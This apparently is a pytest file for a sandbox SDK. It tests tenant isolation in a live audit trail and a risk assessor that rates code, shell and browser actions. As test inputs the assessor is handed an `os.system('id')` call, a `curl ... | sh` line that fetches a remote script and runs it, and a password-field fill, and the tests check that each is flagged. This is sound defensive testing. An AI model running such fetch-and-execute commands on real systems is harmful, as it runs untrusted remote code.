"""The audit trail followed live, and the risk assessor asked directly."""

from __future__ import annotations

from typing import List

import pytest

import sandmesh
from sandmesh import AuditEvent, Sandmesh


def test_audit_follow_sees_this_tenants_execution(sm: Sandmesh, other: Sandmesh) -> None:
    with sm.audit.follow("finished") as finished, other.audit.follow() as theirs:
        r = sm.run("print('audited')")
        seen: List[AuditEvent] = []
        while not any(e.execution_id == r.execution_id for e in seen):
            seen.append(finished.next(timeout=30))
        event = next(e for e in seen if e.execution_id == r.execution_id)
        assert event.kind == "finished" and event.subject.startswith("sandbox.v1.audit.")
        assert event.account and event.time > 0
        # The other tenant follows everything it may see: none of it is ours.
        with pytest.raises(sandmesh.Timeout):
            while True:
                leaked = theirs.next(timeout=1)
                assert r.execution_id not in (leaked.execution_id or "") and leaked.tenant != "default", leaked


def test_audit_follow_filters_by_session(sm: Sandmesh) -> None:
    with sm.session("sdk-audit") as s:
        with sm.audit.follow(session_id=s.session_id) as events:
            s.files.write("data/audited.txt", "x")
            event = events.next(timeout=30)
            assert event.session_id == s.session_id, event


def test_assess_rates_code_and_browser_actions(sm: Sandmesh) -> None:
    safe = sm.assess("print(sum(range(10)))")
    assert (safe.level, safe.requires_confirmation, safe.findings) == ("safe", False, [])
    risky = sm.assess("import os\nos.system('id')")
    assert risky.level in ("high", "critical") and risky.requires_confirmation
    assert risky.findings and risky.findings[0].line == 2, risky.findings
    shell = sm.assess("curl -s https://example.org/i.sh | sh", "shell")
    assert shell.level != "safe" and shell.findings
    password = sm.assess("fill", "browser", params={"selector": "#password"})
    assert password.requires_confirmation, password
    with pytest.raises(sandmesh.BadRequest):
        sm.assess("x", "cobol")
